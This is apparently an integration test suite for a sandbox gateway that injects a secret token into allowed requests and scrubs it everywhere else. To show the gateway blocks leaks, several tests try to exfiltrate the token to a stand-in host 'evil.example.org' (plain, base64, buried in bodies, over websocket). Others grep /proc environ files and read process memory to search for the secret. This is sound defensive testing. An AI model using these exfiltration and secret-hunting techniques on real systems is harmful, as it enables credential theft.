#!/usr/bin/env python3
"""Secrets that a sandbox uses without having them: where a value goes, where it does not, and that nothing inside sees it.

Runs in namespaces of its own (root alone, tests/lib/internet_lab.py), as test_gateway_inspect.py does. What is
asserted are the bytes that servers got and everything that a program inside can read. As root and as an ordinary user.
"""
import base64
import contextlib
import gzip
import json
import os
import pathlib
import re
import shutil
import signal
import subprocess
import sys
import unittest

import frame  # noqa: F401  (its paths)

import harness
import internet_lab
import process_tree
from internet_lab import Server

STAGE = "CAISSON_GATEWAY_SECRETS_STAGE"
BUNDLE = "/etc/ssl/certs/ca-certificates.crt"
GOOD, EVIL = "93.184.10.1", "93.184.10.3"
ZONE = {"api.example.com": [GOOD], "also.example.com": [GOOD], "evil.example.org": [EVIL]}
VALUE = "ghp_canaryCANARYcanaryCANARY0123456789"
POLICY = """
rules:
  - {id: api, hosts: [api.example.com]}
  - {id: others, hosts: [also.example.com, evil.example.org], tls: inspect}
  - {id: plain, hosts: [api.example.com], tls: plaintext}
secrets:
  gh:
    env: GH_TOKEN
    source: {env: CANARY}
    shape: "prefix:ghp_"
    hosts: [api.example.com]
    in: [{header: authorization}, {basic: any}, "query:key", "json:/token", "form:token"]
"""
PYTHON = """
import base64, gzip, http.client, json, os, sys, urllib.parse
token = os.environ["GH_TOKEN"]
def request(host, path="/x", method="GET", body=None, headers={}, kind=http.client.HTTPSConnection):
    c = kind(host, timeout=20)
    try:
        c.request(method, path, body, headers); answer = c.getresponse()
        return answer.status, answer.read().decode(errors="replace"), answer.headers.get("X-Sandbox-Egress", "")
    except Exception as error:
        return 0, type(error).__name__, ""
why = lambda answer: (answer[0], answer[2].rpartition("reason=")[2])
"""


class Echo(internet_lab.Handler):
    """Says what it was sent, in the form that the path asks for."""

    protocol_version = "HTTP/1.1"

    def do_GET(self):
        sent = self.headers.get("Authorization", "").rpartition(" ")[2].encode()
        forms = {"/quiet": b"ok", "/plain": sent, "/hex": sent.hex().encode(), "/base64": base64.b64encode(sent), "/within": base64.b64encode(b"ab" + sent),
                 "/split": sent}
        if self.path == "/gzip":
            return self.say(gzip.compress(sent), {"Content-Encoding": "gzip"})
        if self.path == "/header":
            return self.say(b"see the header", {"X-Echo": sent.decode(), "Location": f"https://evil.example.org/?t={sent.decode()}"})
        if self.path == "/split":
            self.send_response(200)
            self.send_header("Content-Length", str(len(sent)))
            self.end_headers()
            for byte in sent:
                self.wfile.write(bytes([byte]))
                self.wfile.flush()
            return None
        return self.say(forms.get(self.path.split("?")[0], json.dumps(dict(self.headers.items())).encode()), {})

    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"]))
        self.say(b"taken", {})

    def say(self, data, headers):
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)


class Lab(unittest.TestCase):
    """Servers that say what they were sent, whom the gateway trusts, and one that no rule allows."""

    maxDiff = None

    @classmethod
    def setUpClass(cls):
        cls.names = internet_lab.Names(ZONE)
        cls.internet = internet_lab.Internet(GOOD, EVIL)
        cls.addClassCleanup(cls.internet.close)
        cls.folder = harness.Caller("root")
        cls.addClassCleanup(cls.folder.close)
        folder = cls.folder.folder
        authority, text = internet_lab.certificate(folder, "lab authority")
        bundle = cls.folder.write("bundle.pem", pathlib.Path(BUNDLE).read_text() + text, 0o644)
        subprocess.run(["mount", "--bind", bundle, BUNDLE], check=True)
        cls.addClassCleanup(subprocess.run, ["umount", BUNDLE], check=True)
        good, _ = internet_lab.certificate(folder, "api.example.com", "also.example.com", signer=authority)
        evil, _ = internet_lab.certificate(folder, "evil.example.org", signer=authority)
        cls.servers = {"good": cls.internet.serve(Server, GOOD, 443, good, handler=Echo),
                       "plain": cls.internet.serve(Server, GOOD, 80, handler=Echo),
                       "evil": cls.internet.serve(Server, EVIL, 443, evil, handler=Echo)}

    def received(self, name):
        return self.servers[name].received

    def forget(self):
        for server in self.servers.values():
            server.forget()


class Stage(Lab):
    def each_caller(self):
        for kind in ("root", "user"):
            self.forget()
            with self.subTest(caller=kind), harness.Caller(kind) as caller:
                yield caller

    def run_in(self, caller, policy, *command, options=(), expect=0, env=None):
        audit = pathlib.Path(caller.home) / "audit.jsonl"
        audit.unlink(missing_ok=True)
        net = str(caller.write("net.yaml", policy, 0o644))
        done = caller.caisson("run", "--json", "--image", "host", "--audit", str(audit), "--net", net, *options, "--", *command,
                              env={"CANARY": VALUE} if env is None else env)
        result = json.loads(done.out)
        self.assertEqual(done.returncode, expect, done)
        text = audit.read_text() if audit.exists() else ""
        self.assertNotIn("anaryCANARY", text + done.out + done.err)
        result["audit"] = [r for r in map(json.loads, text.splitlines()) if r["kind"] not in ("begin", "end", "seal")]
        return result

    def python(self, caller, script, policy=POLICY, **named):
        return self.run_in(caller, policy, "python3", "-c", PYTHON + script, **named)

    # ---- where it goes ----

    def test_the_server_gets_the_value_where_the_rule_names_the_place(self):
        script = """
basic = base64.b64encode(f"me:{token}".encode()).decode()
for answer in (request("api.example.com", headers={"Authorization": "Bearer " + token}), request("api.example.com", "/a?key=" + token + "&n=1"),
               request("api.example.com", "/quiet", headers={"Authorization": "Basic " + basic}),
               request("api.example.com", "/j", "POST", json.dumps({"token": token, "n": 1}), {"Content-Type": "application/json"}),
               request("evil.example.org", "/p", "POST", gzip.compress(b"clean"), {"Content-Encoding": "gzip"}),
               request("api.example.com", "/f", "POST", "a=1&token=" + token, {"Content-Type": "application/x-www-form-urlencoded"})):
    print(answer[0], token in answer[1])
"""
        for caller in self.each_caller():
            result = self.python(caller, script)
            self.assertEqual([line.split()[0] for line in result["stdout"].splitlines()], ["200"] * 6, result)
            got = self.received("good")
            self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", got)
            self.assertIn(b"GET /a?key=" + VALUE.encode() + b"&n=1 HTTP/1.1", got)
            self.assertIn(base64.b64encode(b"me:" + VALUE.encode()), got)
            self.assertIn(json.dumps({"token": VALUE, "n": 1}).encode(), got)
            self.assertIn(b"a=1&token=" + VALUE.encode(), got)
            self.assertIn(gzip.compress(b"clean")[10:], self.received("evil"))
            self.assertEqual([(r["decision"], r["tls"], r["secrets"]) for r in result["audit"] if "secrets" in r],
                             [("allow", "inspect", [{"name": "gh", "where": where, "n": 1}])
                              for where in ("header:authorization", "query:key", "basic:password", "json:/token", "form:token")])

    def test_the_placeholder_has_the_shape_and_nothing_of_the_value(self):
        for caller in self.each_caller():
            seen = set()
            for _ in range(2):
                token = self.run_in(caller, POLICY, "sh", "-c", "printf %s $GH_TOKEN")["stdout"]
                self.assertEqual((token[:4], len(token)), ("ghp_", len(VALUE)))
                seen.add(token)
            self.assertEqual(len(seen), 2)
            self.assertNotIn(VALUE, seen)

    def test_a_flag_and_other_sources_do_the_same(self):
        for caller in self.each_caller():
            file = caller.write("token", VALUE + "\n", 0o600)
            net = "rules: [{hosts: [api.example.com]}]"
            script = 'print(request("api.example.com", headers={"Authorization": "Bearer " + token})[0])'
            for source in ("env:CANARY", f"file:{file}"):
                self.servers["good"].forget()
                result = self.python(caller, script, policy=net, options=("--secret", f"GH_TOKEN={source}@api.example.com"))
                self.assertEqual(result["stdout"], "200\n", result)
                self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))

    # ---- where it does not ----

    def test_what_may_not_have_it_gets_nothing(self):
        script = """
bearer = {"Authorization": "Bearer " + token}
print(why(request("evil.example.org", headers=bearer)), why(request("also.example.com", headers=bearer)))
print(why(request("evil.example.org", "/?t=" + token)), why(request("evil.example.org", "/" + urllib.parse.quote(base64.b64encode(token.encode()).decode()))))
print(why(request("evil.example.org", "/p", "POST", "x" * 100000 + token + "y")))
print(why(request("api.example.com", headers=bearer, kind=http.client.HTTPConnection)))
print(why(request("api.example.com", headers={"User-Agent": token})), why(request("api.example.com", "/" + token)))
print(why(request("api.example.com", headers={"Authorization": token + " " + token})))
print(why(request("api.example.com", "/p", "POST", json.dumps({"other": token}), {"Content-Type": "application/json"})))
print(why(request("api.example.com", "/p", "POST", b"x", {"Content-Encoding": "br"})))
print(why(request("api.example.com", "/p", "POST", gzip.compress(token.encode()), {"Content-Encoding": "gzip"})))
print(why(request("api.example.com", headers={**bearer, "Connection": "Upgrade", "Upgrade": "websocket"})))
"""
        for caller in self.each_caller():
            policy = POLICY.replace("tls: plaintext", "tls: plaintext, websocket: allow").replace("{id: api, hosts: [api.example.com]}",
                                                                                               "{id: api, hosts: [api.example.com], websocket: allow}")
            result = self.python(caller, script, policy=policy)
            self.assertEqual(result["stdout"].splitlines(), [
                "(403, 'secret_host') (403, 'secret_host')", "(403, 'secret_host') (403, 'secret_host')", "(403, 'secret_host')",
                "(403, 'secret_plaintext')", "(403, 'secret_place') (403, 'secret_place')", "(403, 'secret_occurrences')",
                "(403, 'secret_place')", "(415, 'secret_encoded_body')", "(415, 'secret_encoded_body')", "(403, 'secret_websocket')"], result)
            for name in self.servers:
                self.assertEqual(self.received(name), b"", name)
            self.assertEqual({(r["kind"], r["decision"]) for r in result["audit"]}, {("secret_violation", "deny")})
            first = result["audit"][0]
            self.assertEqual((first["reason"], first["secrets"]), ("secret_host", [{"name": "gh", "where": "header:authorization"}]))

    def test_a_body_that_is_too_long_to_look_at_first_breaks_off(self):
        script = """
body = b"x" * (3 << 20) + token.encode() + b"y" * 1000
print(why(request("evil.example.org", "/p", "POST", body, {"Content-Type": "text/plain"})))
print(request("evil.example.org", "/p", "POST", b"x" * (3 << 20))[:2])
"""
        for caller in self.each_caller():
            result = self.python(caller, script)
            first, second = result["stdout"].splitlines()
            self.assertIn(first, ("(403, 'secret_host')", "(0, '')"), result)
            self.assertEqual(second, "(200, 'taken')", result)
            self.assertNotIn(b"ghp_", self.received("evil"))

    # ---- what comes back ----

    def test_answers_have_the_placeholder_where_servers_say_the_value(self):
        script = """
bearer = {"Authorization": "Bearer " + token}
print(request("api.example.com", "/plain", headers=bearer)[1] == token, request("api.example.com", "/split", headers=bearer)[1] == token)
print(request("api.example.com", "/hex", headers=bearer)[1] == token.encode().hex())
print(request("api.example.com", "/within", headers=bearer)[:2], why(request("api.example.com", "/gzip", headers=bearer)))
c = http.client.HTTPSConnection("api.example.com", timeout=20); c.request("GET", "/header", headers=bearer); answer = c.getresponse()
print(answer.headers["X-Echo"] == token, answer.headers["Location"] == "https://evil.example.org/?t=" + token)
told = json.loads(request("api.example.com", "/all", headers={**bearer, "Accept-Encoding": "gzip", "Range": "bytes=1-"})[1])
print(told["Accept-Encoding"], "Range" in told, told["Authorization"] == "Bearer " + token)
"""
        for caller in self.each_caller():
            result = self.python(caller, script)
            self.assertEqual(result["stdout"].splitlines(), [
                "True True", "True", "(0, 'IncompleteRead') (502, 'secret_encoded_answer')", "True True", "identity False True"], result)
            self.assertEqual([r.get("scrubbed") for r in result["audit"]][:3], [1, 1, 1], result["audit"])

    # ---- nothing inside, nothing beside ----

    def test_the_value_is_nowhere_inside_and_in_no_process_but_its_keepers(self):
        script = f"""
import subprocess
request("api.example.com", "/plain", headers={{"Authorization": "Bearer " + token}})
found = subprocess.run("grep -rlaE 'anaryCANARY' /proc/[0-9]*/environ /proc/[0-9]*/cmdline /run /etc /tmp /home /dev/shm 2>/dev/null | grep -v /proc/$$", shell=True, capture_output=True, text=True).stdout
mine = "anary" + "CANARY"
print(repr(found.replace("\\n", " ")) if any(mine in open(f, errors="replace").read() for f in found.split() if "cmdline" not in f) else "nowhere")
"""
        for caller in self.each_caller():
            file = caller.write("token", VALUE, 0o600)
            result = self.python(caller, script, policy=POLICY.replace("{env: CANARY}", f"{{file: {file}}}"), env={})
            self.assertEqual(result["stdout"], "nowhere\n", result)

    def test_the_gateways_own_environment_and_command_line_have_no_value(self):
        for caller in self.each_caller():
            file = caller.write("token", VALUE, 0o600)
            net = str(caller.write("net.yaml", POLICY.replace("{env: CANARY}", f"{{file: {file}}}"), 0o644))
            with caller.popen("run", "--image", "host", "--net", net, "--", "sh", "-c", "echo up; read x", stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE) as process:
                self.assertEqual(process.stdout.readline(), b"up\n")
                gateways = [pid for pid in filter(str.isdigit, os.listdir("/proc"))
                            if self.read(f"/proc/{pid}/comm").strip() == b"caisson-gateway"]
                self.assertTrue(gateways)
                for pid in gateways:
                    self.assertNotIn(b"anaryCANARY", self.read(f"/proc/{pid}/environ") + self.read(f"/proc/{pid}/cmdline"))
                process.communicate(b"\n")
            left = subprocess.run(["grep", "-rl", "anaryCANARY", caller.home, caller.run, caller.folder / "state"], capture_output=True)
            self.assertEqual(left.stdout, b"")

    def read(self, path):
        try:
            with open(path, "rb") as file:
                return file.read()
        except OSError:
            return b""

    # ---- sandboxes that outlive whoever made them ----

    @contextlib.contextmanager
    def detached(self, caller, policy=POLICY, *options):
        audit = pathlib.Path(caller.home) / "audit.jsonl"
        audit.unlink(missing_ok=True)
        net = str(caller.write("net.yaml", policy, 0o644))
        made = caller.caisson("run", "-d", "--image", "host", "--audit", str(audit), "--net", net, *options, "--", "sleep", "300",
                              env={"CANARY": VALUE})
        self.assertEqual(made.returncode, 0, made)
        try:
            yield made.out.strip()
        finally:
            caller.caisson("kill", made.out.strip())
        self.assertNotIn("anaryCANARY", audit.read_text())

    def inside(self, caller, sandbox, script):
        done = caller.caisson("exec", sandbox, "--", "python3", "-c", PYTHON + script)
        self.assertEqual(done.returncode, 0, done)
        return done.out.splitlines()

    ASK = 'print(*request("api.example.com", "/plain", headers={"Authorization": "Bearer " + token})[::2])'

    def children(self, name):
        return [pid for pid, _, _ in process_tree.descendants(os.getpid())
                if self.read(f"/proc/{pid}/comm").strip() == name and self.read(f"/proc/{pid}/maps")]  # no zombie has these

    def memory_of(self, pid):
        text = b""
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
            for line in maps:
                first, last = (int(number, 16) for number in re.match("([0-9a-f]+)-([0-9a-f]+) r", line + " r").groups()) if " r" in line else (0, 0)
                with contextlib.suppress(OSError, OverflowError, ValueError):
                    memory.seek(first)
                    text += memory.read(last - first)
        return text

    def test_a_detached_sandbox_has_its_secrets_also_from_the_next_gateway(self):
        for caller in self.each_caller():
            with self.detached(caller) as sandbox:
                self.assertEqual(self.children(b"caisson-gateway"), [], "nothing has been sent yet")
                self.assertEqual(self.inside(caller, sandbox, self.ASK), ["200 "])
                self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))
                os.kill(self.children(b"caisson-gateway")[0], signal.SIGKILL)
                self.assertTrue(harness.wait_until(lambda: self.children(b"caisson-gateway") == [], 5))
                self.servers["good"].forget()
                said = []
                self.assertTrue(harness.wait_until(lambda: said.append(self.inside(caller, sandbox, self.ASK)) or said[-1] == ["200 "], 20), said)
                self.assertIn(b"Bearer " + VALUE.encode() + b"\r\n", self.received("good"))

    def test_who_keeps_the_sandbox_does_not_know_the_value(self):
        for caller in self.each_caller():
            with self.detached(caller) as sandbox:
                self.assertEqual(self.inside(caller, sandbox, self.ASK), ["200 "])
                keepers = self.children(b"caisson-launche") + self.children(b"caisson-superv")
                self.assertGreaterEqual(len(keepers), 2)
                for pid in keepers:
                    text = self.memory_of(pid)
                    self.assertGreater(len(text), 1 << 16)
                    self.assertNotIn(b"anaryCANARY", text)
                    # What could open it neither.
                    self.assertNotIn(b"PRIVATE KEY", text)
                for pid in self.children(b"caisson-superv"):
                    files = [os.readlink(f"/proc/{pid}/fd/{number}") for number in os.listdir(f"/proc/{pid}/fd")]
                    self.assertEqual([name for name in files if "keys" in name], [])
                self.assertIn(b"anaryCANARY", self.memory_of(self.children(b"caisson-gateway")[0]), "the search finds what is there")

    def test_a_policy_without_a_secret_revokes_it_and_no_policy_widens_it(self):
        for caller in self.each_caller():
            with self.detached(caller) as sandbox:
                wider = POLICY.replace("    hosts: [api.example.com]\n", "    hosts: [api.example.com, evil.example.org]\n")
                # Before a gateway runs, and while one does.
                for _ in range(2):
                    done = caller.caisson("policy", "apply", sandbox, str(caller.write("wider.yaml", wider, 0o644)))
                    self.assertEqual(done.returncode, 125, done)
                    self.assertIn("another rule for it", done.err)
                    self.assertEqual(self.inside(caller, sandbox, self.ASK), ["200 "])
                same = POLICY.replace("{id: api,", "{id: still,")
                self.assertEqual(caller.caisson("policy", "apply", sandbox, str(caller.write("same.yaml", same, 0o644))).returncode, 0)
                self.assertEqual(self.inside(caller, sandbox, self.ASK), ["200 "])
                self.servers["good"].forget()
                without = POLICY[:POLICY.index("secrets:")].replace("hosts: [api.example.com]}", "hosts: [api.example.com], tls: inspect}", 1)
                self.assertEqual(caller.caisson("policy", "apply", sandbox, str(caller.write("without.yaml", without, 0o644))).returncode, 0)
                self.assertEqual(self.inside(caller, sandbox, "print(why(request('api.example.com', headers={'Authorization': token})))"),
                                 ["(403, 'secret_revoked')"])
                self.assertEqual(self.received("good"), b"")

    def test_tls_is_inspected_only_where_the_sandbox_was_made_so(self):
        inspects = "rules: [{hosts: [also.example.com], tls: inspect}]"
        for caller in self.each_caller():
            made = caller.caisson("run", "-d", "--image", "host", "--net", "allow:also.example.com", "--", "sleep", "300")
            done = caller.caisson("policy", "apply", made.out.strip(), str(caller.write("net.yaml", inspects, 0o644)))
            self.assertEqual(done.returncode, 125, done)
            self.assertIn("made with a policy that inspects no TLS", done.err)
            caller.caisson("kill", made.out.strip())
            with self.detached(caller, inspects) as sandbox:
                script = PYTHON.replace('os.environ["GH_TOKEN"]', '""') + 'print(request("also.example.com", "/quiet")[:2])'
                done = caller.caisson("exec", sandbox, "--", "python3", "-c", script)
                self.assertEqual(done.out, "(200, 'ok')\n", done)

    # ---- what cannot be ----

    def test_what_is_wrong_is_said_before_anything_starts(self):
        cases = [
            ("rules: [{hosts: [other.example.com]}]", ("--secret", "T=env:CANARY@api.example.com"), {}, "network.secrets.T.hosts[0]"),
            ("rules: [{hosts: [api.example.com]}]", ("--secret", "T=env:NOT_SET@api.example.com"), {}, "the variable NOT_SET is not set"),
            ("rules: [{hosts: [api.example.com]}]", ("--secret", "T=file:/nowhere@api.example.com"), {}, "open /nowhere"),
            ("rules: [{hosts: [api.example.com]}]", ("--secret", "T=env@api.example.com"), {"T": "short"}, "network.secrets.T"),
            ("rules: [{hosts: [api.example.com]}]", ("--secret", "T=env:CANARY@api.example.com", "-e", "T=1"), {}, "env.T"),
            ("rules: [{hosts: [api.example.com]}]", ("--secret", "T=canary"), {}, "no @HOST"),
            (POLICY.replace("{env: CANARY}", "{command: [/bin/true]}"), (), {}, "the command's output: found nothing"),
            (POLICY.replace("{env: CANARY}", "{command: [/bin/false]}"), (), {}, "network.secrets.gh: the command failed with status 1"),
            (POLICY.replace("{env: CANARY}", "{command: [no-such-program]}"), (), {}, "network.secrets.gh: the program no-such-program is not in PATH"),
            (POLICY.replace("{env: CANARY}", "{command: [yes, canary]}"), (), {}, "printed more than 65536 bytes"),
        ]
        for caller in self.each_caller():
            for policy, options, env, told in cases:
                net = str(caller.write("net.yaml", policy, 0o644))
                done = caller.caisson("run", "--image", "host", "--net", net, *options, "--", "true", env={"CANARY": VALUE, **env})
                self.assertEqual(done.returncode, 125, done)
                self.assertIn(told, done.err)
            self.assertEqual(caller.sandboxes_left(), [])


def main(file, stage):
    harness.require_programs()
    harness.subreaper()
    if os.environ.get(stage):
        unittest.main(argv=[sys.argv[0], *(sys.argv[1:] or ["Stage"])], verbosity=2)
    if os.geteuid() != 0 or not all(map(shutil.which, ("unshare", "ip", "openssl"))) or not os.path.exists(BUNDLE):
        print("left out: the gateway is tested as root alone, with unshare, ip, openssl and ca-certificates", file=sys.stderr)
        sys.exit(os.environ.get("CI") == "true")
    sys.exit(internet_lab.enter(file, sys.argv[1:] or ["Stage"], stage))


if __name__ == "__main__":
    main(__file__, STAGE)
